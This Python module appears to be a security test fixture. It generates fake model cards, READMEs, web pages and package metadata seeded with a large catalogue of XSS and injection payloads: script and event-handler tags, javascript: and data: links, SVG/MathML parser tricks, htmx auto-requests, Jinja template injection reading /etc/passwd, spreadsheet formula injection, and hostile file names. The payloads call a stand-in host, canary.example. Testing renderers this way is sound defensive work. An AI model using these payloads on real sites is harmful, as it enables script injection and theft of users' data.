"""A world of invented projects whose owners would like to run something in the browser of whoever reads them.

`payloads(number)` are the texts, each with what it tries. A document is one of them in the midst of
sentences that the extractors quote: a README, a model card, a dataset card, a page, a paper, a package.
Each document has a word of its own, by which a test finds it on a page, and calls `canary` with its number
if it is ever run: `document.title` is set and an address of `CANARY_HOST` is asked for, besides.
"""

from __future__ import annotations

import base64
import html
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from sandbox import Sandbox
from sandbox.documents import Document
from sandbox.world import Thing

CANARY_HOST = "canary.example"
WORDS = "nandu"
"""Every document's own word begins so. It is in no other text."""

Text = str | bytes
MEGABYTE = 1_000_000


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """What a hostile text tries, and the text. `is_block`: it begins on a line of its own."""

    tries: str
    text: Text
    is_block: bool = False


@dataclass(frozen=True, slots=True, kw_only=True)
class HostileDocument:
    """A document with the artifact that it is of: `kind`, `id`, `role` as in a seed file."""

    number: int
    tries: str
    project: str
    kind: str
    id: str
    role: str

    @property
    def word(self) -> str:
        return word_of(self.number)


def word_of(number: int) -> str:
    """The word by which a document is found."""
    return f"{WORDS}{number:03d}"


def script(number: int) -> str:
    """A statement that tells on whoever runs it: without quotes, white space and angle brackets."""
    return f"canary({number}),document.title=`owned{number}`,new(Image)().src=`//{CANARY_HOST}/{number}`"


def payloads(number: int) -> list[Payload]:
    """All texts, for the document of that number."""
    return [
        *_elements(number),
        *_attributes(number),
        *_addresses(number),
        *_templates(number),
        *_letters(number),
        *_large(),
    ]


def _elements(n: int) -> Iterator[Payload]:
    js, away = script(n), f"https://{CANARY_HOST}/{n}"
    encoded = base64.b64encode(f"<script>parent.{js}</script>".encode()).decode()
    inline = {
        "a script element": f"<script>{js}</script>",
        "a script element in other letters, with white space": f"<ScRiPt\n>{js}</sCrIpT\t>",
        "a script that is made by taking one away": f"<scr<script>ipt>{js}</scr</script>ipt>",
        "a script that is never closed": f"<script>{js}//",
        "a script from elsewhere": f"<script src={away}.js></script>",
        "a module from elsewhere": f"<script type=module src={away}.mjs></script>",
        "an image that cannot be loaded": f"<img src=x onerror={js}>",
        "slashes for spaces": f"<img/src=x/onerror={js}//>",
        "an image from elsewhere": f"<img src={away}.png><img srcset='{away}.png 2x'>",
        "SVG that is loaded": f"<svg onload={js}>",
        "SVG with a script as CDATA": f"<svg><script>//<![CDATA[\n{js}\n//]]></script></svg>",
        "SVG that is animated": f"<svg><animate onbegin={js} attributeName=x dur=1s /></svg>",
        "SVG that points at a script": f"<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>",
        "SVG with something else in it": f"<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
        "SVG that uses another": f"<svg><use href='data:image/svg+xml;base64,{encoded}#x'/></svg>",
        "MathML as a link": f"<math href='javascript:{js}'>x</math>",
        "MathML that turns into HTML": f"<math><annotation-xml encoding='text/html'><script>{js}</script></annotation-xml></math>",
        "MathML that confuses parsers": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
        "the end of a comment": f"--><script>{js}</script><!--",
        "the end of a CDATA section": f"]]><script>{js}</script><![CDATA[",
        "a comment of old browsers": f"<!--[if gte IE 4]><script>{js}</script><![endif]-->",
        "the end of a text field": f"</textarea><script>{js}</script><textarea>",
        "the end of a title": f"</title><script>{js}</script><title>",
        "the end of a style": f"</style><script>{js}</script><style>",
        "the end of a script": f"</script><script>{js}</script><script>",
        "a noscript that is read in two ways": f"<noscript><p title='</noscript><img src=x onerror={js}>'>",
        "a template with a shadow": f"<div><template shadowrootmode=open><script>{js}</script><img src=x onerror={js}></template></div>",
        "a frame with a document": f"<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
        "a frame with a script": f"<iframe src='javascript:parent.{js}'></iframe>",
        "an object and an embedded thing": f"<object data='{away}.swf'></object><embed src='javascript:{js}'>",
        "a page that goes elsewhere": f"<meta http-equiv=refresh content='0;url={away}'>",
        "a page that lies elsewhere": f"<base href='{away}/'>",
        "a form that is sent elsewhere": f"<form action='{away}'><input name=password><button formaction='javascript:{js}'>Confirm</button></form>",
        "styles from elsewhere": f"<link rel=stylesheet href='{away}.css'><style>@import '{away}.css';</style>",
        "styles that hide the page": "<style>*{display:none!important}body{position:fixed;left:-9999px}</style>",
        "a style that covers the page": f"<div style='position:fixed;inset:0;z-index:9999;background:url({away})'>Sign in again</div>",
        "a dialog": "<dialog open id=content>Sign in again</dialog><div popover=manual id=said>x</div>",
        "an element with our ids": "<main id=content hx-history=false><div id=said data-focus tabindex=0>x</div></main>",
    }
    for tries, text in inline.items():
        yield Payload(tries=tries, text=text)


def _attributes(n: int) -> Iterator[Payload]:
    js = script(n)
    for tries, text in {
        "the end of a double-quoted attribute": f'" autofocus onfocus="{js}" x="',
        "the end of a single-quoted attribute": f"' autofocus onfocus='{js}' x='",
        "an attribute without quotes": f"x onmouseover={js} onfocus={js} tabindex=0 autofocus",
        "backquotes": f"` onerror={js} `",
        "details that open": f"<details open ontoggle={js}><summary>x</summary></details>",
        "a body that is loaded": f"<body onload={js} onpageshow={js} onhashchange={js}>",
        "a field that takes the focus": f"<input autofocus onfocus={js}><select autofocus onfocus={js}>",
        "sound and pictures": f"<video><source onerror={js}></video><audio src=x onerror={js}></audio>",
        "an end of an animation": f"<p style='animation:x 1s' onanimationend={js} ontransitionend={js}>x</p>",
        "htmx that asks at once": f"<p hx-get='//{CANARY_HOST}/{n}' hx-trigger='load' hx-swap='outerHTML'>x</p>",
        "htmx that posts a decision": "<b data-hx-post='/questions/x/code/decide' data-hx-trigger='load delay:1ms' hx-vals='{\"action\":\"confirm\"}'>x</b>",
        "htmx with a script": f"<p hx-on::load='{js}' hx-on:click='{js}' hx-vals='js:{{a:{js}}}' hx-trigger='load[{js}]'>x</p>",
        "our own keys": "<button data-key='c o p x' data-go='q' data-reason='confirm'>x</button>",
    }.items():
        yield Payload(tries=tries, text=text)


def _addresses(n: int) -> Iterator[Payload]:
    js, away = script(n), f"https://{CANARY_HOST}/{n}"
    page = base64.b64encode(f"<script>{js}</script>".encode()).decode()
    for tries, text in {
        "a Markdown link to a script": f"[data](javascript:{js})",
        "a Markdown link to a script with gaps": f"[data](<java\tscript:{js}>) [data](&#106;avascript&colon;{js})",
        "a Markdown link to a script in other letters": f"[data](JaVaScRiPt:{js}) [data](vbscript:{js})",
        "a Markdown link to a document in itself": f"[data](data:text/html;base64,{page})",
        "a Markdown image with a document in itself": f"![data](data:image/svg+xml;base64,{page})",
        "a Markdown image from elsewhere": f"![data]({away}.png 'x')",
        "a Markdown link with a title": f"[data](https://x.example/ '\" onclick={js} x=\"')",
        "a Markdown link by reference": f'[data][x]\n\n[x]: javascript:{js} "data"\n',
        "an address between brackets": f"<javascript:{js}> <data:text/html;base64,{page}>",
        "an address without a scheme": f"[data](//{CANARY_HOST}/{n}) //{CANARY_HOST}/{n}",
        "an address with a name and a password": f"https://owner:hunter2-{n}@{CANARY_HOST}/{n} [data](https://a:b@{CANARY_HOST}/)",
        "an address with quotes": f"https://x.example/\"onmouseover=\"{js} [data](https://x.example/'onclick='{js})",
        "an address with what browsers leave out": f"[data](https://x.example/\x09\x0a\x0djavascript:{js}) [data](\x01javascript:{js})",
        "an address that looks like another": "[data](https://huggingface.co@canary.example/) https://huggingface.co\u2044x@canary.example https://аррӏе.example/",
        "an address without an end": f"https://x.example/{'a/' * 4000} data",
        "a link around an image around a link": f"[![data](javascript:{js})](javascript:{js})",
    }.items():
        yield Payload(tries=tries, text=text)


def _templates(n: int) -> Iterator[Payload]:
    js = script(n)
    for tries, text in {
        "Jinja's braces": "{{ 7*7 }} {{ config.items() }} {{ ''.__class__.__mro__[1].__subclasses__() }}",
        "Jinja's blocks": "{% for x in range(10**9) %}x{% endfor %} {% include '/etc/passwd' %} {# x",
        "templates of others": f"${{{js}}} #{{{js}}} <%= {js} %> {{{{constructor.constructor('{js}')()}}}} %s %(x)s {{0}}",
        "entities": f"&lt;script&gt;{js}&lt;/script&gt; &amp;lt;script&amp;gt; &#60;img src=x onerror={js}&#62;",
        "entities without an end": f"&#x3Cscript&#x3E{js}&#x3C/script&#x3E &ltimg src=x onerror={js}&gt",
        "brackets of another width": f"\uff1cscript\uff1e{js}\uff1c/script\uff1e \u2039script\u203a",
        "UTF-7": f"+ADw-script+AD4-{js}+ADw-/script+AD4-",
        "JSON that ends a script": json.dumps({"x": f"</script><script>{js}</script>"}),
        "commands of terminals": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m \x9b31m",
        "formulas of spreadsheets": f'=HYPERLINK("https://{CANARY_HOST}/{n}";"x") @SUM(1) +cmd|\' /C calc\'!A0',
    }.items():
        yield Payload(tries=tries, text=text)


def _letters(n: int) -> Iterator[Payload]:
    js = script(n)
    bracket = f"<script>{js}</script>"
    for tries, text in {
        "broken UTF-8": b"\xff\xfe\xfa\xc3(\xe2\x82 \xf0\x28\x8c\xbc <img src=x onerror=\xc3>",
        "overlong sequences": b"\xc0\xbcscript\xc0\xbe\xe0\x80\xbcscript\xe0\x80\xbe\xf0\x80\x80\xbc",
        "halves of surrogate pairs": b"\xed\xa0\xbd\xed\xb8\x80 \xed\xbf\xbf \xef\xbf\xbf",
        "UTF-16 without a word about it": bracket.encode("utf-16-le"),
        "a mark of byte order in the middle": f"\ufeff{bracket}\ufffe",
        "zeros and control characters": f"\x00<\x00script\x00>\x00{js}\x01\x02\x08\x0b\x0c\x0e\x1f\x7f\x80\x9f",
        "letters that turn the line round": "\u202e\u2067\u2066gpj.exe \u202dwont nepo ton si sihT\u202c\u2069 \u061c\u200f",
        "turns that are never ended": "\u202e" * 60 + "\u2067" * 60 + "closed",
        "letters that cannot be seen": "o\u200bp\u200ce\u200dn\u2060 c\u00adlosed \ufeff\u180e\u3164\uffa0 \U000e0041\U000e0042",
        "lines that are none": f"\u2028{bracket}\u2029\x85\x0b\x0cclosed\r\rclosed",
        "marks above marks": "o" + "\u0301\u0323\u0334\u0489" * 300 + "pen",
        "a word without an end": "W" * 30_000,
        "letters wider than a line": "\ufdfd" * 200 + "\U0001242b" * 50 + "\u2031" * 50,
        "flags and families": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200 + "\U0001f1e9" * 99,
        "other writing from right to left": "\u0645\u0641\u062a\u0648\u062d " * 300 + bracket,
        "letters above and below the line": "A" + "\u20dd\u0489\ua670" * 60 + " \ua9c5\u0bf5\u1d2b" * 20,
        "letters of private use": "\ue000\uf8ff\U0010ffff\ufdd0" * 50,
    }.items():
        yield Payload(tries=tries, text=text)


@cache
def _large() -> tuple[Payload, ...]:
    """Texts that are made once, as they take a while; without a number."""
    depth = 100_000
    bracket = f"<script>{script(0)}</script>"
    return tuple(
        Payload(tries=tries, text=text, is_block=True)
        for tries, text in {
            # More than is fetched of a file: the reason is shown in place of it.
            "one line of five megabytes": "The training data is public " + "<b>data " * (5 * MEGABYTE // 8),
            "a hundred thousand lists in lists": "- " * depth + "data",
            "a list of a hundred thousand": "- data\n" * depth,
            "one line of four megabytes": "The training data is public " + "<b>data " * (4 * MEGABYTE // 8),
            "twenty thousand brackets": "[" * 20_000 + "data" + "](x)" * 20_000,
            "a table of two thousand columns": "".join(
                unit * 2_000 + "|\n" for unit in ("| data ", "|---", "| x ")
            ),
            "four thousand headings": "".join(f"## Data {i} {bracket}\n\nx\n\n" for i in range(4_000)),
            "a hundred thousand elements in elements": "<div>" * depth + "data" + "</div>" * depth,
            "a code block that is never closed": "```html\n" + bracket * 50,
            "a hundred thousand quotes in quotes": ">" * depth + " data",
        }.items()
    )


def _prose(number: int, payload: Payload, about: str) -> bytes:
    """Sentences that the extractors quote, with the payload in each; or once, where it is large."""
    word = word_of(number)
    mark, where = "@@inline@@", "@@block@@"
    text = f"""# {about} {word} {mark}

This repository holds the code {word} {mark} of a model; see [the data {mark}](https://huggingface.co/datasets/nandu-house/talk).

## Training data {mark}

We release the training data of {word} {mark} for everybody. It was collected from web pages {mark} in a year.
The model was trained on 300 billion tokens {mark} of text.

- [dialogues {mark}](https://github.com/nandu-house/{word}-data): the instructions {mark} we used for tuning

## Source and collection {mark}

The dialogues of {word} {mark} were collected between 2019 and 2023 from forums whose owners agreed to it, by
eleven students who were paid by the hour. Each was read by two of them before it was kept.

## Preprocessing and curation {mark}

We removed names {mark} and addresses, dropped whatever stood there twice, and filtered {word} {mark} by length and
language. What was left was sorted by topic and balanced by hand.

## Training procedure {mark}

| learning rate | layers {mark} |
|---|---|
| 2e-5 | 32 {mark} |

The weights of {word} {mark} can be downloaded here. We cannot share the dialogues {mark} of {word}.

## Evaluation {mark}

{word} {mark} beats others in 12 of 20 tasks.

## Usage {mark}

Install it with `pip install {word}`, then run `python serve.py` {mark} for an API.

## Limitations {mark}

It invents things {mark} of which nobody knows.

## License {mark}

The code of {word} {mark} is released under the Apache License 2.0, and the weights {mark} under
CC-BY-NC-4.0 {mark} as [told here {mark}](https://creativecommons.org/licenses/by-nc/4.0/).

## Citation {mark}

See our paper {mark} [{word}](https://arxiv.org/abs/2401.{number:05d}), accepted at the Symposium of {word} {mark}.

{where}
"""
    body = payload.text if isinstance(payload.text, bytes) else payload.text.encode("utf-8", "surrogatepass")
    small = b"" if payload.is_block or len(body) > 40_000 else body
    return text.encode().replace(mark.encode(), small).replace(where.encode(), body)


def _card(number: int, payload: Payload, base: str, data: str) -> bytes:
    """A card of the Hub: the payload in its front matter, too, as far as YAML takes it."""
    name = payload.text if isinstance(payload.text, str) and len(payload.text) < 2_000 else word_of(number)
    head = {
        "license": "other",
        "license_name": f"{word_of(number)} {name}",
        "license_link": f"https://x.example/{name}",
        "language": ["en", name],
        "base_model": base,
        "datasets": [data, name],
        "tags": [name, "text-generation"],
    }
    if number % 80 == 2:
        # Front matter that is larger than most documents.
        head["extra"] = ["x" * 90] * 3_000
    matter = json.dumps(head, ensure_ascii=False)[1:-1].replace(', "', ',\n"')
    return (
        b"---\n{"
        + matter.encode("utf-8", "surrogatepass")
        + b"}\n---\n"
        + _prose(number, payload, "Model card")
    )


def _page(number: int, payload: Payload) -> bytes:
    """A web page with the payload as it is and as the words of an author who writes about HTML."""
    prose = _prose(number, payload, "Home page").decode("utf-8", "replace")
    if len(prose) > 200_000:
        prose = prose[:200_000]
    raw = payload.text if isinstance(payload.text, bytes) else payload.text.encode("utf-8", "surrogatepass")
    paragraphs = "".join(f"<p>{html.escape(part)}</p>\n" for part in prose.split("\n\n"))
    return (
        (
            f"<!DOCTYPE html><html lang=en><head><title>{word_of(number)} {html.escape(prose[:200])}</title></head><body>"
            f"<h1>{word_of(number)}</h1><main>{paragraphs}</main><footer>"
        ).encode()
        + raw[:200_000]
        + b"</footer></body></html>"
    )


def _facts_of_text(payload: Payload) -> str:
    """A payload as a field of somebody's metadata."""
    text = payload.text if isinstance(payload.text, str) else payload.text.decode("utf-8", "replace")
    return text[:20_000]


FILE_NAMES = (
    'train_"><img src=x onerror=canary(900)>.py',
    "src/'onmouseover='canary(900)/serve.py",
    "data/\u202egpj.exe.py",
    "data/\x1b[2Jprepare.py",
    "docs/{{ 7*7 }}.md",
    "docs/<svg onload=canary(900)>/training.md",
    "scripts/a b  c\ttrain\u200b.sh",
    "scripts/" + "very-long-name-" * 30 + "train.py",
    "configs/javascript:canary(900).yaml",
)
"""Names of files, of which the tree of a repository tells."""


ROLES = ("code", "rl_weights", "code", "rl_weights", "code", "rl_weights", "llm_weights", "rl_data")
"""What the documents in Markdown of a project are to it."""


class HostileWorld:
    """The documents, as things of the sandbox, and the projects that they belong to."""

    def __init__(self, shift: int = 0) -> None:
        """`shift`: so many payloads further on, for a second night on which every document says something else."""
        self.documents: list[HostileDocument] = []
        self.things: list[Thing] = []
        self.seeds: list[dict[str, object]] = []
        self._shift = shift
        total = len(payloads(0))
        for first in range(0, total, len(ROLES)):
            self._add_project(first // len(ROLES), range(first, min(first + len(ROLES), total)))

    def _payload(self, number: int) -> Payload:
        """Every one stands in one document written in Markdown. Large ones stay where they are: to read them takes long."""
        every = payloads(number)
        small = sum(not payload.is_block for payload in every)
        return every[number if number >= small else (number + self._shift) % small]

    def _inline(self, number: int) -> Payload:
        """One that fits into a field."""
        every = [payload for payload in payloads(number) if not payload.is_block]
        return every[(number * 3 + self._shift) % len(every)]

    def _add_project(self, index: int, numbers: range) -> None:
        slug = f"{WORDS}-{index:02d}"
        artifacts = []
        for role, number in zip(ROLES, numbers, strict=False):
            artifacts.append(self._add_markdown(slug, role, number))
        for kind, number in (("web", 300 + index), ("arxiv", 400 + index), ("pypi", 500 + index)):
            artifacts.append(self._add_field_document(slug, kind, number))
        name = self._inline(600 + index)
        self.seeds.append(
            {
                "slug": slug,
                "name": f"{word_of(600 + index)} {_printable(_facts_of_text(name)[:300])}",
                "org": f"{_printable(_facts_of_text(self._inline(700 + index))[:120])} Laboratory",
                "llmbase": [f"Base of {_printable(_facts_of_text(name)[:80])}"],
                "rlbase": [],
                "homepage": f"https://{slug}.example/'onclick='canary({index})'",
                "artifacts": artifacts,
            }
        )

    def _add_markdown(self, slug: str, role: str, number: int) -> dict[str, str]:
        payload = self._payload(number)
        name = f"nandu-house/thing-{number:03d}"
        if role == "code":
            kind, key, file = "github", f"github/{name}", _prose(number, payload, "Code")
        elif role.endswith("data"):
            kind, key, file = "hf_dataset", f"hub/datasets/{name}", _prose(number, payload, "Dataset card")
        else:
            kind, key = "hf_model", f"hub/models/{name}"
            file = _card(number, payload, f"nandu-house/thing-{number + 1:03d}", "nandu-house/talk")
        files = {"README.md": Document.stored("README.md", file)}
        facts: dict[str, object]
        if kind == "github":
            text = _printable(_facts_of_text(payload)[:300])
            facts = {
                "description": f"{word_of(number)} {text}",
                "homepage": f"javascript:{script(number)}",
                "license": "other",
                "topics": [text[:50]],
                "created_at": "2024-01-01T10:00:00Z",
                "pushed_at": f"2025-02-{2 + self._shift % 9:02d}T10:00:00Z",
                "tags": ["v1"],
                "releases": [{"tag": "v1", "name": text, "published_at": "2025-01-20T10:00:00Z"}],
            }
            licence = f"{word_of(number)} Terms\n\nYou may not use this for trade. ".encode() + _inline_bytes(
                payload
            )
            files["LICENSE"] = Document.stored("LICENSE", licence)
            files |= {path: Document(path=path, size=4_000) for path in FILE_NAMES}
        else:
            facts = {
                "created_at": "2024-06-10T10:00:00Z",
                "last_modified": f"2024-12-{2 + self._shift % 9:02d}T10:00:00Z",
                "pipeline_tag": "text-generation",
                "gated": "manual" if number % 3 == 0 else False,
            }
            weights = "data/train.parquet" if kind == "hf_dataset" else "model.safetensors"
            files[weights] = Document(path=weights, size=4_000_000_000)
            odd = 'model"><svg onload=canary(901)>.safetensors'
            files[odd] = Document(path=odd, size=4_000_000)
        self._add(number, payload, slug, kind, name, role, Thing(key=key, facts=facts, files=files))
        return {"kind": kind, "id": name, "role": role}

    def _add_field_document(self, slug: str, kind: str, number: int) -> dict[str, str]:
        payload, word = self._inline(number), word_of(number)
        text = _facts_of_text(payload)
        if kind == "web":
            name = key = f"https://{slug}.example/page-{number}"
            facts: dict[str, object] = {
                "type": f'text/html; charset=utf-8; x="<script>canary({number})</script>"'
            }
            files = {"page": Document.stored("page", _page(number, payload))}
            role = "homepage"
        elif kind == "arxiv":
            name, role, files = f"2401.{number:05d}", "preprint", {}
            key, xml = f"arxiv/{name}", _xml_text(text)
            facts = {
                "title": f"{word} {xml[:2_000]}: a model and its data",
                "authors": [f"{word} {xml[:200]}", "<script>"],
                "summary": f"We release {word} {xml} and the training data {xml[:500]} of the model.",
                "published": "2024-06-18T12:00:00Z",
                "updated": "2024-06-18T12:00:00Z",
                "version": 1,
                "comment": f"Accepted at the Symposium of {word} {xml[:500]}",
                "journal_ref": f"Proceedings of {word} {xml[:500]}",
                "categories": ["cs.CL"],
            }
        else:
            name, role, files = f"thing-{number}", "package", {}
            key = f"pypi/{name}"
            facts = {
                "name": word,
                "summary": f"{word} {text}",
                "description": _prose(number, payload, "Package").decode("utf-8", "replace"),
                "description_content_type": "text/html",
                "license": f"{word} {text[:2_000]}",
                "author": text[:300],
                "home_page": f"javascript:{script(number)}",
                "project_urls": {
                    text[:200]: f"javascript:{script(number)}",
                    "Code": f"https://github.com/nandu-house/thing-{number}",
                    "Home": f"https://owner:hunter2@{CANARY_HOST}/{number}",
                },
                "classifiers": [f"License :: {text[:100]}"],
                "releases": [{"version": "1.0.0", "date": "2025-01-20T09:00:00Z"}],
            }
        self._add(number, payload, slug, kind, name, role, Thing(key=key, facts=facts, files=files))
        return {"kind": kind, "id": name, "role": role}

    def _add(
        self, number: int, payload: Payload, slug: str, kind: str, name: str, role: str, thing: Thing
    ) -> None:
        thing.record()
        self.things.append(thing)
        self.documents.append(
            HostileDocument(number=number, tries=payload.tries, project=slug, kind=kind, id=name, role=role)
        )

    def put_into(self, sandbox: Sandbox) -> None:
        """Let the sandbox serve these things, in place of those of the same names."""
        with sandbox.world.lock:
            for thing in self.things:
                earlier = sandbox.world.things.get(thing.key)
                if earlier is not None and thing.commits:
                    thing.commits[:0] = earlier.commits
                sandbox.world.things[thing.key] = thing

    def write_seeds(self, path: Path) -> Path:
        """The seed file. JSON is YAML."""
        path.write_text(json.dumps(self.seeds, indent=1, ensure_ascii=False), encoding="utf-8")
        return path


def _inline_bytes(payload: Payload) -> bytes:
    if payload.is_block:
        return b""
    return payload.text if isinstance(payload.text, bytes) else payload.text.encode("utf-8", "surrogatepass")


def _printable(text: str) -> str:
    """What YAML takes: seeds are written by a curator, who copies a name from somewhere."""
    return (
        "".join(c if c.isprintable() else " " for c in text if not 0xD800 <= ord(c) < 0xE000).strip() or "x"
    )


def _xml_text(text: str) -> str:
    """What XML can hold at all: an archive of papers sends no others."""
    unfit = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
    return unfit.sub("", text)


@cache
def first_night() -> HostileWorld:
    return HostileWorld()


@cache
def second_night() -> HostileWorld:
    """Every document has another payload, so that there is a difference to show."""
    return HostileWorld(shift=7)
